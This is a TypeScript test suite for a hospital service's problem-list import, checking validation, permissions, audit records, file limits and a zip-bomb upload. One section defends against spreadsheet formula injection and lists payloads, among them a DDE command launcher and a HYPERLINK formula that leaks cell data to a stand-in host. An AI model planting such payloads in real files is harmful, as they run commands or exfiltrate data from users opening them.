import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { LABELS, REGISTERED_SOURCES, SEVERITIES } from '../workflows';
import { LIST_COLUMNS, type ListColumn } from '../src/finding-imports/problem-list';
import { LEDGER_COLUMNS } from '../src/reports/ledger';
import { PROBLEMS_LISTED, SAMPLE_LIST, listCsv, personalProblemList, type ListRecord } from '../scripts/problem-list-sample';
import { binaryBody, lyingZipBomb, pngWith } from './support/files';
import { Flow } from './support/flow';
import { Hospital, seedHospital } from './support/hospital';
import { TestApp, startApp } from './support/test-app';

const onPostgres = /^postgres/.test(process.env.DATABASE_URL ?? '');
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** A row of the list with the columns every row needs; `extra` overrides or adds. */
const row = (extra: ListRecord = {}): ListRecord => ({
  source: 'complaint',
  roundType: 'administrative',
  title: '门诊导诊台无人值守',
  description: '患者投诉：上午九点导诊台无人',
  severity: 'minor',
  departmentCode: 'CARD',
  ...extra,
});

/** A list as xlsx, laid out as the template is: Chinese headers, field keys, the rows. `cell` may make a cell something other than text. */
async function xlsxList(records: ListRecord[], cell: (key: ListColumn, value: string) => ExcelJS.CellValue = (_key, value) => value): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('问题清单');
  sheet.addRow(LIST_COLUMNS.map((column) => column.zh));
  sheet.addRow(LIST_COLUMNS.map((column) => column.key));
  for (const record of records) sheet.addRow(LIST_COLUMNS.map((column) => (record[column.key] === undefined ? null : cell(column.key, record[column.key]!))));
  return Buffer.from(await book.xlsx.writeBuffer());
}

/** The same list as CSV: UTF-8, with a BOM unless told otherwise. */
const csvList = (records: ListRecord[], { bom = true } = {}) => {
  const text = listCsv(records);
  return Buffer.from(bom ? text : text.slice(1), 'utf8');
};

describe(`importing a problem list (${onPostgres ? 'PostgreSQL' : 'SQLite'})`, () => {
  let t: TestApp;
  let h: Hospital;
  let flow: Flow;

  beforeAll(async () => {
    // Limits small enough to reach in a test, large enough for the sample list (about 450 KB).
    t = await startApp({ IMPORT_MAX_MB: '1', IMPORT_MAX_ROWS: '2000' });
    h = await seedHospital(t);
    flow = new Flow(t, h);
  });

  afterAll(() => t.close());

  const upload = (who: keyof Hospital['users'], file: Buffer, name: string, dryRun: boolean | undefined) =>
    t.http
      .post(`/findings/import${dryRun === undefined ? '' : `?dryRun=${dryRun}`}`)
      .set('Authorization', `Bearer ${h.users[who].token}`)
      .attach('file', file, name);
  const count = async (sql: string) => Number((await t.dataSource.query(sql))[0].n);
  const findingCount = () => count('SELECT COUNT(*) AS n FROM findings');
  const untouched = async () => ({ ...(await t.counts()), imports: await count('SELECT COUNT(*) AS n FROM finding_imports'), notifications: await count('SELECT COUNT(*) AS n FROM notifications') });
  /** The finding registered with this source and reference, as the database holds it. */
  const stored = async (externalRef: string) => (await t.dataSource.query(`SELECT * FROM findings WHERE "externalRef" = ${onPostgres ? '$1' : '?'}`, [externalRef]))[0];

  describe('the template', () => {
    it('is an xlsx with the Chinese headers, the field keys, and a sheet of the codes its cells take', async () => {
      const response = await flow.as('cardiologyStaff').get('/findings/import/template').buffer(true).parse(binaryBody).expect(200);
      expect(response.headers['content-type']).toBe(XLSX);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(response.body as never);
      const [list, codes] = book.worksheets;
      expect((list.getRow(1).values as string[]).slice(1)).toEqual(LIST_COLUMNS.map((column) => (column.required ? `${column.zh}*` : column.zh)));
      expect((list.getRow(2).values as string[]).slice(1)).toEqual(LIST_COLUMNS.map((column) => column.key));
      expect(list.actualRowCount).toBe(2);
      const entries: string[][] = [];
      codes.eachRow((line, number) => number > 1 && entries.push((line.values as string[]).slice(1)));
      const of = (kind: string) => entries.filter(([k]) => k === kind).map(([, code, name]) => [code, name]);
      expect(of('departmentCode')).toEqual(['CARD', 'DISC', 'LOGI', 'PARTY', 'PRES', 'SURG'].map((code) => [code, code]));
      expect(of('source')).toEqual(REGISTERED_SOURCES.map((source) => [source, `${LABELS.source[source].zh} ${LABELS.source[source].en}`]));
      expect(of('severity').map(([code]) => code)).toEqual([...SEVERITIES]);
      expect(of('roundType').map(([code]) => code)).toEqual(['administrative', 'party_building', 'integrity']);
    });

    it('is for those who register findings', async () => {
      await flow.as('inspector').get('/findings/import/template').expect(403);
      await flow.as('admin').get('/findings/import/template').expect(403);
    });
  });

  describe('the dry run', () => {
    it('reports each kind of row problem, creates nothing, and counts what a real run would create', async () => {
      const before = await untouched();
      const records = [
        row({ externalRef: 'DRY-1' }), // row 3: fine
        row({ departmentCode: 'NOPE' }),
        row({ responsiblePerson: 'nobody' }),
        row({ responsiblePerson: 'surg-staff' }), // a user of another department
        row({ severity: 'dire' }),
        row({ source: 'round' }), // the service's own source
        row({ roundType: 'medical' }),
        row({ deadline: '2026-02-30' }),
        row({ deadline: '2020-01-01' }), // past
        row({ title: undefined }),
        row({ title: '长'.repeat(201) }),
        row({ roundType: 'integrity' }), // only the discipline office registers integrity findings
        row({ externalRef: 'DRY-1' }), // the same reference twice in one file
        row({ severity: '严重', source: '投诉举报', externalRef: 'DRY-2' }), // Chinese names are taken too
      ];
      const response = await upload('adminVerifier', await xlsxList(records), '清单.xlsx', true).expect(200);
      expect(response.body).toMatchObject({ dryRun: true, importId: null, format: 'xlsx', rows: 14, created: 2, alreadyPresent: 0, findings: [] });
      expect(response.body.problems.map((p: { row: number; column: string }) => [p.row, p.column])).toEqual([
        [4, 'departmentCode'],
        [5, 'responsiblePerson'],
        [6, 'responsiblePerson'],
        [7, 'severity'],
        [8, 'source'],
        [9, 'roundType'],
        [10, 'deadline'],
        [11, 'deadline'],
        [12, 'title'],
        [13, 'title'],
        [14, 'roundType'],
        [15, 'externalRef'],
      ]);
      const reason = (r: number) => response.body.problems.find((p: { row: number }) => p.row === r).reason as string;
      expect(reason(4)).toBe('names no department (the template lists their codes)');
      // An unknown username and another department's read alike: a list tells nothing of other departments' people.
      expect([reason(5), reason(6)]).toEqual(Array(2).fill("names no active user of the row's department (give the username)"));
      expect(reason(11)).toMatch(/^must be later than now/);
      expect(reason(12)).toBe('is required');
      expect(reason(13)).toBe('must be shorter than or equal to 200 characters');
      expect(reason(14)).toBe('Only the discipline office registers integrity findings');
      expect(reason(15)).toBe("repeats row 3's reference for this source");
      expect(await untouched()).toEqual(before);
    });

    it('holds a department to its own self-inspection rows', async () => {
      const records = [row({ source: 'self_inspection' }), row({ source: 'self_inspection', departmentCode: 'SURG' }), row({ source: 'complaint' })];
      const response = await upload('cardiologyStaff', csvList(records), 'list.csv', true).expect(200);
      expect(response.body.created).toBe(1);
      expect(response.body.problems.map((p: { row: number; column: string }) => [p.row, p.column])).toEqual([
        [4, 'departmentCode'],
        [5, 'source'],
      ]);
    });
  });

  describe('a real run', () => {
    it('creates nothing when one row has a problem, and answers 400 with the rows', async () => {
      const before = await untouched();
      const records = [row({ externalRef: 'ALL-1' }), row({ externalRef: 'ALL-2', severity: 'dire' }), row({ externalRef: 'ALL-3' })];
      const response = await upload('adminVerifier', await xlsxList(records), 'list.xlsx', false).expect(400);
      expect(response.body.details).toEqual([{ row: 4, column: 'severity', reason: expect.stringContaining('must be one of') }]);
      expect(await untouched()).toEqual(before);
    });

    it('lists every row of a dry run by number, title and reference, problems or not', async () => {
      const records = [row({ externalRef: 'LIST-1' }), row({ severity: 'dire' })];
      const response = await upload('adminVerifier', await xlsxList(records), 'list.xlsx', true).expect(200);
      expect(response.body.listed).toEqual([
        { row: 3, title: '门诊导诊台无人值守', externalRef: 'LIST-1' },
        { row: 4, title: '门诊导诊台无人值守', externalRef: null },
      ]);
    });

    it('creates every row, records the import, names it in each finding’s audit entries, and a re-import creates nothing again', async () => {
      const records = [
        row({ externalRef: 'RUN-1', responsiblePerson: 'card-staff', location: '门诊大厅', deadline: '2099-12-31' }),
        row({ externalRef: 'RUN-2', source: 'patient_feedback', severity: 'major', departmentCode: 'SURG' }),
      ];
      const file = await xlsxList(records);
      const response = await upload('adminVerifier', file, '投诉清单.xlsx', false).expect(200);
      expect(response.body).toMatchObject({ dryRun: false, rows: 2, created: 2, alreadyPresent: 0, problems: [], fileName: '投诉清单.xlsx' });
      const importId = response.body.importId as string;
      const [first, second] = response.body.findings as { row: number; findingId: string; source: string }[];
      expect([first.row, second.row]).toEqual([3, 4]);
      // Each created row says its source, so a list of several sources links to each one's problem list.
      expect([first.source, second.source]).toEqual(['complaint', 'patient_feedback']);

      const finding = (await flow.as('adminVerifier').get(`/findings/${first.findingId}`).expect(200)).body;
      expect(finding).toMatchObject({
        roundId: null,
        source: 'complaint',
        externalRef: 'RUN-1',
        state: 'assigned',
        responsibleDepartmentId: h.departments.cardiology,
        responsiblePersonId: h.users.cardiologyStaff.id,
        location: '门诊大厅',
        lead: { kind: 'lead_office' },
      });
      expect(finding.deadline.slice(0, 10)).toBe('2099-12-31');

      const [record] = await t.dataSource.query('SELECT * FROM finding_imports');
      expect(record).toMatchObject({ id: importId, importedBy: h.users.adminVerifier.id, fileName: '投诉清单.xlsx', rows: 2, created: 2, alreadyPresent: 0 });
      expect(record.sha256).toBe(createHash('sha256').update(file).digest('hex'));
      expect(record.sha256).toBe(response.body.sha256);

      const trail = (await flow.as('discipline').get(`/findings/${second.findingId}/audit`).expect(200)).body.items;
      expect(trail.map((entry: { event: string }) => entry.event)).toEqual(['REGISTER_FINDING', 'ASSIGN']);
      expect(trail[0].payload).toMatchObject({ importId, externalRef: 'RUN-2', source: 'patient_feedback' });
      const log = (await flow.as('discipline').get(`/audit?entityType=finding_import&entityId=${importId}`).expect(200)).body.items;
      expect(log).toEqual([
        expect.objectContaining({
          event: 'LIST_IMPORTED',
          actorId: h.users.adminVerifier.id,
          payload: { fileName: '投诉清单.xlsx', sha256: record.sha256, rows: 2, created: 2, alreadyPresent: 0, roundTypes: ['administrative'] },
        }),
      ]);

      const before = await findingCount();
      const again = await upload('adminVerifier', file, '投诉清单.xlsx', false).expect(200);
      expect(again.body).toMatchObject({ created: 0, alreadyPresent: 2, findings: [], present: [{ row: 3, externalRef: 'RUN-1' }, { row: 4, externalRef: 'RUN-2' }] });
      expect(await findingCount()).toBe(before);
    });

    it('keeps an integrity import out of the log for those who may not see integrity work', async () => {
      const response = await upload('discipline', csvList([row({ roundType: 'integrity', externalRef: 'INT-1', title: '收受红包线索' })]), 'integrity.csv', false).expect(200);
      const path = `/audit?entityType=finding_import&entityId=${response.body.importId}`;
      expect((await flow.as('discipline').get(path).expect(200)).body.total).toBe(1);
      expect((await flow.as('admin').get(path).expect(200)).body.total).toBe(0);
      // Imported again, every row already present: the entry still names integrity work, and is still withheld.
      const again = await upload('discipline', csvList([row({ roundType: 'integrity', externalRef: 'INT-1', title: '收受红包线索' })]), 'integrity.csv', false).expect(200);
      expect(again.body).toMatchObject({ created: 0, alreadyPresent: 1 });
      expect((await flow.as('admin').get(`/audit?entityType=finding_import&entityId=${again.body.importId}`).expect(200)).body.total).toBe(0);
      // Its reference says nothing to an office outside the matter: the same reference is a new complaint there.
      const outside = await upload('adminVerifier', csvList([row({ source: 'complaint', externalRef: 'INT-1' })]), 'list.csv', true).expect(200);
      expect(outside.body).toMatchObject({ created: 1, alreadyPresent: 0, present: [] });
    });
  });

  describe('files', () => {
    it('reads CSV with a BOM and without one', async () => {
      for (const bom of [true, false]) {
        const records = [row({ externalRef: `CSV-${bom}`, title: '病区走廊堆放杂物' })];
        const response = await upload('adminVerifier', csvList(records, { bom }), 'list.csv', false).expect(200);
        expect(response.body).toMatchObject({ format: 'csv', created: 1 });
        expect((await stored(`CSV-${bom}`)).title).toBe('病区走廊堆放杂物');
      }
    });

    it('takes a list headed by the field keys alone', async () => {
      const csv = `source,roundType,title,description,severity,departmentCode\ncomplaint,administrative,标题,描述,minor,CARD\n`;
      const response = await upload('adminVerifier', Buffer.from(csv), 'keys.csv', true).expect(200);
      expect(response.body).toMatchObject({ rows: 1, created: 1, problems: [] });
    });

    it('refuses what is not xlsx or UTF-8 CSV with 415, nothing created', async () => {
      const before = await untouched();
      const utf16 = Buffer.from(`\ufeff${listCsv([row()]).slice(1)}`, 'utf16le');
      for (const [file, name] of [
        [await pngWith('list'), 'list.png'],
        [utf16, 'list.csv'],
        [await xlsxList([row()]), 'list.csv'],
        [csvList([row()]), 'list.xlsx'],
      ] as const) {
        const response = await upload('adminVerifier', file, name, false);
        expect({ name, status: response.status }).toEqual({ name, status: 415 });
      }
      await t.http.post('/findings/import?dryRun=false').set('Authorization', `Bearer ${h.users.adminVerifier.token}`).send({ rows: [] }).expect(415);
      expect(await untouched()).toEqual(before);
    });

    it('refuses a file over the size limit, and a list over the row limit, with 413', async () => {
      const big = Buffer.concat([csvList([row()]), Buffer.alloc(1_100_000, 'x')]);
      expect((await upload('adminVerifier', big, 'big.csv', true)).status).toBe(413);
      const many = csvList(Array.from({ length: 2001 }, (_, i) => ({ source: 'complaint', roundType: 'administrative', title: 't', description: 'd', severity: 'minor', departmentCode: 'CARD', externalRef: String(i) })));
      const response = await upload('adminVerifier', many, 'many.csv', true);
      expect({ status: response.status, details: response.body.details }).toEqual({ status: 413, details: [{ field: 'file', reason: 'has more than 2000 rows' }] });
    });

    it('refuses a zip bomb that lies about its sizes before it is unpacked whole, and stays up', async () => {
      // A few kilobytes that would unpack to 200 MB, declaring 100 bytes: stopped once it passes twenty times its size.
      const bomb = lyingZipBomb(200_000_000);
      expect(bomb.length).toBeLessThan(500_000);
      const before = await t.counts();
      const response = await upload('cardiologyStaff', bomb, '清单.xlsx', true);
      expect({ status: response.status, message: response.body.message }).toEqual({ status: 400, message: expect.stringContaining('unpacks to far more than a problem list holds') });
      expect(await t.counts()).toEqual(before);
      await t.http.get('/health').expect(200);
    });

    it('refuses an empty sheet, a list without headers, and a request without dryRun, with 400', async () => {
      const empty = new ExcelJS.Workbook();
      empty.addWorksheet('问题清单');
      const cases: [Buffer, string, boolean | undefined, string][] = [
        [await xlsxList([]), 'headers-only.xlsx', false, 'holds no rows below its headers'],
        [Buffer.from(await empty.xlsx.writeBuffer()), 'empty.xlsx', false, 'must begin with a row of headers'],
        [csvList([]), 'headers-only.csv', true, 'holds no rows below its headers'],
        [Buffer.from('a,b,c\n1,2,3\n'), 'other.csv', true, 'must begin with a row of headers (not headers: "a", "b", "c")'],
        [Buffer.from('source,title\ncomplaint,x\n'), 'short.csv', true, 'lacks the column(s) roundType, description, severity, departmentCode'],
        [csvList([row()]), 'list.csv', undefined, 'dryRun must be given in the query, as ?dryRun=true (check only) or ?dryRun=false (import)'],
      ];
      for (const [file, name, dryRun, reason] of cases) {
        const response = await upload('adminVerifier', file, name, dryRun);
        expect({ name, status: response.status, message: response.body.message }).toEqual({ name, status: 400, message: expect.stringContaining(reason) });
      }
      // A dryRun sent as a form field would be ignored; it is refused instead.
      await t.http.post('/findings/import?dryRun=false').set('Authorization', `Bearer ${h.users.adminVerifier.token}`).field('dryRun', 'true').attach('file', csvList([row()]), 'list.csv').expect(400);
    });
  });

  describe('hostile cells are data', () => {
    const HOSTILE = ["=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1:A9)', '=HYPERLINK("http://evil.example/?d="&A1,"x")'];

    it('stores formulas as the text typed, control characters as they are, and the ledger writes them as text', async () => {
      // In the xlsx the first is a real formula cell; its text is taken, never its result.
      // XML 1.0 has no place for most control characters, so only the CSV rows carry them.
      const description = (i: number) => (i === 0 ? `公式 ${i}` : `响铃\u0007与转义\u001b[31m ${i}`);
      const records = HOSTILE.map((title, i) => row({ title, externalRef: `HOSTILE-${i}`, description: description(i) }));
      const xlsx = await xlsxList(records.slice(0, 1), (key, value) => (key === 'title' ? { formula: value.slice(1), result: 42 } : value));
      expect((await upload('adminVerifier', xlsx, 'formula.xlsx', false).expect(200)).body.created).toBe(1);
      expect((await upload('adminVerifier', csvList(records.slice(1)), 'hostile.csv', false).expect(200)).body.created).toBe(4);
      for (const [i, title] of HOSTILE.entries()) {
        expect(await stored(`HOSTILE-${i}`)).toMatchObject({ title, description: description(i) });
      }

      const csv = (await flow.as('discipline').get('/reports/ledger?format=csv').buffer(true).parse(binaryBody).expect(200)).body as Buffer;
      const titles = (parse(csv.toString('utf8').slice(1)) as string[][]).map((record) => record[LEDGER_COLUMNS.findIndex((c) => c.key === 'title')]);
      for (const title of HOSTILE) expect(titles).toContain(`'${title}`);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load((await flow.as('discipline').get('/reports/ledger?format=xlsx').buffer(true).parse(binaryBody).expect(200)).body as never);
      const formulaCells: string[] = [];
      const texts: string[] = [];
      book.worksheets.forEach((sheet) => sheet.eachRow((line) => line.eachCell((cell) => (cell.type === ExcelJS.ValueType.Formula ? formulaCells.push(cell.address) : texts.push(cell.text)))));
      expect(formulaCells).toEqual([]);
      for (const title of HOSTILE) expect(texts).toContain(title);
    });

    it('holds a huge cell to the field’s limit, as a row problem', async () => {
      const response = await upload('adminVerifier', csvList([row({ description: '描'.repeat(100_000) })]), 'huge.csv', true).expect(200);
      expect(response.body.problems).toEqual([{ row: 3, column: 'description', reason: 'must be shorter than or equal to 4000 characters' }]);
    });
  });

  describe('the sample list (docs/samples)', () => {
    it('is the one the script writes', () => {
      expect(readFileSync(SAMPLE_LIST, 'utf8')).toBe(listCsv(personalProblemList()));
    });

    it('imports whole after a clean dry run, and again reports every row present', async () => {
      const file = readFileSync(SAMPLE_LIST);
      const dry = await upload('adminVerifier', file, 'personal-problem-list.csv', true).expect(200);
      expect(dry.body).toMatchObject({ rows: PROBLEMS_LISTED, created: PROBLEMS_LISTED, alreadyPresent: 0, problems: [] });
      const before = await findingCount();
      const real = await upload('adminVerifier', file, 'personal-problem-list.csv', false).expect(200);
      expect(real.body).toMatchObject({ created: PROBLEMS_LISTED, problems: [] });
      expect(await findingCount()).toBe(before + PROBLEMS_LISTED);
      expect(await count(`SELECT COUNT(*) AS n FROM findings WHERE "externalRef" LIKE 'GR2023-%' AND source = 'self_inspection' AND state = 'assigned'`)).toBe(PROBLEMS_LISTED);
      const again = await upload('adminVerifier', file, 'personal-problem-list.csv', false).expect(200);
      expect(again.body).toMatchObject({ created: 0, alreadyPresent: PROBLEMS_LISTED, problems: [] });
      expect(await findingCount()).toBe(before + PROBLEMS_LISTED);
    });
  });
});
